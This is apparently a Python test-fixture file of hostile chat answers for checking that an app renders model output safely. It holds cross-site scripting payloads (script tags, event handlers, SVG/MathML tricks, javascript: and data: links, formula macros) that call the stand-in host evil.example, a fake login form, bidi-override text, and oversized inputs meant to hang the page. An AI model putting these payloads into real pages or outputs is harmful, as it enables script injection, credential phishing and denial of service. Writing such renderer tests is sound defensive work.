"""Answers that attack the page which shows them, by what they contain or by their size and shape."""

from __future__ import annotations

HOST = "evil.example"
_SCRIPT = "window.attacked=true;fetch('/api/state');fetch('https://evil.example/')"

MARKUP = {
    "script": f"<script>{_SCRIPT}</script>",
    "script in a list": f"- a\n\n  <script>{_SCRIPT}</script>\n- <script src=https://{HOST}/x.js></script>",
    "event handlers": f'<img src=x onerror="{_SCRIPT}"><body onload="{_SCRIPT}"><details open ontoggle="{_SCRIPT}">',
    "svg": f'<svg onload="{_SCRIPT}"><script>{_SCRIPT}</script><use href="https://{HOST}/x.svg#a"/></svg>',
    "svg and mathml in each other": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=1 onerror={_SCRIPT}&gt;"></style></mglyph></table></mtext></math>'
    ),
    "frames": f'<iframe src="javascript:{_SCRIPT}"></iframe><iframe srcdoc="<script>{_SCRIPT}</script>"></iframe>',
    "objects": f'<object data="https://{HOST}/"></object><embed src="https://{HOST}/">',
    "meta and base": f'<meta http-equiv="refresh" content="0;url=https://{HOST}/"><base href="https://{HOST}/">',
    "style sheets": (
        f'<style>body{{display:none}} @import "https://{HOST}/x.css"; *{{background:url(https://{HOST}/p)}}</style>'
        f'<link rel=stylesheet href="https://{HOST}/x.css"><link rel=preload as=image href="https://{HOST}/p">'
    ),
    "a fake interface": (
        '<div class="dialog notice" id="app" role="alert" style="position:fixed;inset:0;z-index:99999;background:#fff">'
        f'<form action="https://{HOST}/"><input name=password autofocus><button>Log in</button></form></div>'
    ),
    "ends of elements": '</textarea></title></style></script></div></main></body></html>--><h1 class="md">out</h1>',
    "attributes in a tag": f'<sub onclick="{_SCRIPT}" style="position:fixed">a</sub><kbd id=app>b</kbd><br style="x">',
    "links": "\n".join(
        f"[link {number}]({address}) ![image]({address})"
        for number, address in enumerate(
            (
                f"javascript:{_SCRIPT}",
                f"JaVaScRiPt:{_SCRIPT}",
                f"java&#10;script:{_SCRIPT}",
                f"&#106;avascript:{_SCRIPT}",
                f"data:text/html,<script>{_SCRIPT}</script>",
                "data:image/svg+xml,<svg/onload=alert(1)>",
                f"vbscript:{_SCRIPT}",
                f"https://{HOST}/pixel.png",
                f"//{HOST}/pixel.png",
                "/api/conversations",
                "blob:null/x",
            )
        )
    ),
    "autolinks": f"<javascript:{_SCRIPT}> <data:text/html,x> http://a&quot;onmouseover=x ![a](<https://{HOST}/a b>)",
    "titles": f'[a](https://{HOST}/ "\\" onmouseover={_SCRIPT}") ![b](https://{HOST}/ "\'><script>x</script>")',
    "definitions": f"[a][x] ![b][x]\n\n[x]: javascript:{_SCRIPT}\n[y]: https://{HOST}/\n",
    "code": (
        f'```html"><script>{_SCRIPT}</script>\n</code></pre><script>{_SCRIPT}</script>\n```\n'
        "``</code><script>x</script>``"
    ),
    "formulas": "\n\n".join(
        f"${formula}$"
        for formula in (
            rf"\href{{javascript:{_SCRIPT}}}{{x}}",
            rf"\url{{https://{HOST}/}}",
            rf"\includegraphics{{https://{HOST}/p.png}}",
            r"\style{position:fixed;inset:0}{x}",
            r"\class{dialog}{x} \id{app}{x}",
            r"\htmlId{app}{x} \htmlClass{dialog}{x} \data{x=y}{z}",
            r"\text{</math><script>window.attacked=true</script>}",
            r"x\label{app}\tag{<img src=x onerror=window.attacked=true>}",
            r"\rule{9999em}{9999em}\kern-9999em\raisebox{9999em}{x}",
            r"\def\a{\a\a}\a",
        )
    ),
    "directions": (
        "\u202eesrever\u202c \u2066a\u2069 \u202e\u202e\u202e\n\n`\u202ecode`\n\n"
        "```py\nif x:\u202e # \u2066 return\n```"
    ),
    "marks": "a" + "\u0301" * 3000 + "\n\n" + ("Z" + "\u0334\u033f\u0489" * 60) * 20,
}
"""Answers that try to run scripts, to reach another host, or to look like the app."""

LARGE = {
    "a huge table": "|a|b|\n|-|-|\n" + "|c|d|\n" * 20_000,
    "a wide table": "|" + "a|" * 5000 + "\n|" + "-|" * 5000 + "\n|" + "b|" * 5000,
    "endless links": f"[a](https://{HOST}/) " * 10_000,
    "links apart": f"[a](https://{HOST}/)\n\n" * 10_000,
    "nested lists": "\n".join("  " * depth + "- a" for depth in range(800)),
    "nested lists on a line": "- " * 5000 + "a",
    "nested quotes": ">" * 50_000 + "a",
    "a long word": "a" * 200_000 + "@",
    "a long line of code": "```js\n" + "x=" * 100_000 + "\n```",
    "open brackets": "[" * 100_000,
    "open images": "![a](" * 40_000,
    "emphasis": "*a _b **c " * 20_000,
    "underscores": "_a" * 100_000,
    "emphasis around a letter": "*" * 50_000 + "a" + "*" * 50_000,
    "code marks": " ".join("`" * length for length in range(1, 500)),
    "dollars": "$a " * 70_000,
    "deep formulas": "$$" + "{" * 4500 + "}" * 4500 + "$$",
    "comments of code": "```js\n" + "/*" * 20_000 + "\n```",
    "paragraphs": "a\n\n" * 60_000,
    "blank lines": "\n" * 200_000 + "a",
    "tags": "<div>" * 40_000,
}
"""Answers that could keep the page busy."""
